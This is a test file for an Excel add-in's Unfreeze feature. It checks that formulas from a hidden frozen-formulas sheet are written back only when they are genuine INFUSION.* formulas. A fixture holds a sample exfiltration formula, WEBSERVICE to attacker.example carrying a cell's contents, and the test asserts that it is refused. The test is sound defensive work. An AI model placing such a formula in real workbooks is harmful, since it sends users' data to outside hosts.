/**
 * Unfreeze writes back only the INFUSION.* formulas the add-in froze (issue 16, item 9): a workbook whose
 * hidden sheet of frozen formulas was crafted to hold `WEBSERVICE(...)` (which would send the workbook's
 * data to a URL the moment it is written into a cell) gets nothing written; a genuine record beside it is
 * restored. Runs the pane in Chromium over the fake Excel (test/support/fake-excel/).
 */
import { FROZEN_SHEET, checksum, restoreProblem } from '../../src/taskpane/excel/freeze';
import type { WorkbookState } from '../support/fake-excel/workbook';
import { type OpenPane, type PaneEnv, openPane, serializeWorkbook, startEnv } from './harness';
import { cell, parseState, sheet } from './workbook-state';

jest.setTimeout(240_000);

let env: PaneEnv;
let pane: OpenPane | undefined;
beforeAll(async () => {
  env = await startEnv();
});
afterAll(async () => {
  await pane?.close().catch(() => undefined);
  await env?.close();
});

const EXFILTRATE = 'WEBSERVICE("https://attacker.example/?d="&ENCODEURL(Sheet1!C1))';
const GENUINE = 'INFUSION.UNITS("J1745", 305)';

describe('restoreProblem', () => {
  const record = { sheetId: 's1', sheetName: 'Sheet1', cell: 'A1', block: 'A1:A1', checksum: '' };
  it.each([
    [EXFILTRATE, 'Sheet1!A1: "=WEBSERVICE("https://attacker.example/?d="&ENCODEURL(Sheet1!C1))" is not an INFUSION formula'],
    [`INFUSION.UNITS("J1745", 305)&${EXFILTRATE}`, 'Sheet1!A1: the formula calls WEBSERVICE, which reaches outside the workbook'],
    ['INFUSION.UNITS("J1745", 305)&HYPERLINK("http://x")', 'Sheet1!A1: the formula calls HYPERLINK, which reaches outside the workbook'],
    ["INFUSION.UNITS('[other.xlsx]Sheet1'!A1, 305)", 'Sheet1!A1: the formula links to a URL or another file'],
  ])('refuses %s', (formula, problem) => {
    expect(restoreProblem({ ...record, formula })).toBe(problem);
  });

  it('refuses a cell outside its block, and takes a genuine record', () => {
    expect(restoreProblem({ ...record, formula: GENUINE, cell: 'B7' })).toBe('Sheet1!B7: the cell is not inside its frozen block A1:A1');
    expect(restoreProblem({ ...record, formula: GENUINE })).toBeNull();
  });
});

describe('Unfreeze in the pane', () => {
  it('writes back the genuine record and not the crafted one, and says so', async () => {
    const blank = { tabColor: '', tables: [], charts: [], props: {}, frozenRows: 0, frozenColumns: 0, protected: false };
    const records = [
      ['Sheet id', 'Sheet', 'Cell', 'Formula', 'Block', 'Checksum'],
      ['s1', 'Sheet1', 'A1', EXFILTRATE, 'A1:A1', checksum([[5]])],
      // 305 mg of infliximab is 31 units of 10 mg (305 / 10 = 30.5, rounded up).
      ['s1', 'Sheet1', 'B1', GENUINE, 'B1:B1', checksum([[31]])],
    ];
    const hiddenCells: WorkbookState['sheets'][number]['cells'] = {};
    records.forEach((row, r) => row.forEach((v, c) => (hiddenCells[`${r},${c}`] = { v, nf: '@' })));
    const state: WorkbookState = {
      sheets: [
        { ...blank, id: 's1', name: 'Sheet1', visibility: 'Visible', cells: { '0,0': { v: 5 }, '0,1': { v: 31 }, '0,2': { v: 'confidential' } } },
        { ...blank, id: 's2', name: FROZEN_SHEET, visibility: 'VeryHidden', cells: hiddenCells },
      ],
      names: [],
      settings: {},
      activeSheetId: 's1',
      nextId: 100,
    };
    pane = await openPane(env, { state: JSON.stringify(state) });
    const { page } = pane;
    await page.getByRole('tab', { name: 'Workbook' }).click();
    await page.getByRole('button', { name: 'Unfreeze Sheet1' }).click();
    await page
      .getByText(
        `1 formula restored. Not written back, as the add-in did not freeze them: Sheet1!A1: "=WEBSERVICE("https://attacker.example/?d="&ENCODEURL(Sheet1!C1))" is not an INFUSION formula.`,
      )
      .waitFor();
    const after = parseState(await serializeWorkbook(page));
    const s1 = sheet(after, 'Sheet1');
    if (!s1) throw new Error('no Sheet1');
    expect(cell(s1, 0, 0)).toEqual({ v: 5 });
    expect(cell(s1, 0, 1)?.f).toBe(`=${GENUINE}`);
    expect(cell(s1, 0, 1)?.v).toBe(31);
    // The crafted record stays on the hidden sheet (it is not the add-in's to remove); the restored one is gone.
    const hidden = sheet(after, FROZEN_SHEET);
    expect(hidden && cell(hidden, 1, 3)?.v).toBe(EXFILTRATE);
    expect(hidden && (cell(hidden, 2, 0)?.v ?? '')).toBe('');
    expect(pane.errors).toEqual([]);
  });
});
